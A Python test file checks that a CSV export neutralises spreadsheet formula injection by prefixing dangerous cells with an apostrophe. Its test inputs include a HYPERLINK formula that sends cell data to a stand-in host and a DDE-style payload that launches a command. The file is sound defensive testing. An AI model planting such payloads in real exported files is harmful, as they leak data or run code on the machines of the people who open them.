"""What a stranger may be called, in a CSV that a customer opens in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recorder import csv_rows

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("+32470123456", "'+32470123456"),
        ('=HYPERLINK("http://evil.example?"&A1)', '\'=HYPERLINK("http://evil.example?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ("sip:a;=cmd|' /C calc'!A0@b", "sip:a;'=cmd|' /C calc'!A0@b"),
        ("sip:a;transport=tcp@b", "sip:a;transport=tcp@b"),
        ("Boulangerie Martin", "Boulangerie Martin"),
        ("", ""),
        (-5, "-5"),
    ],
)
def test_formula_gets_an_apostrophe(value: object, cell: str) -> None:
    assert read(csv_rows.row(["id", value]))[0][1] == cell


@given(st.lists(st.text(st.sampled_from(SIGNS + " ;,\"\t\r\n'a1"), max_size=12), min_size=1, max_size=4))
def test_no_cell_begins_with_a_sign(values: list[str]) -> None:
    """By comma, as it is; by semicolon, as a French or a German spreadsheet opens it."""
    line = csv_rows.row(values)
    naive = [re.split(r"[;\t\r\n]", cell) for cell in read(line)[0]]
    for cells in (*read(line), *naive):
        for cell in cells:
            assert cell.strip()[:1] not in set(SIGNS), repr(cell)
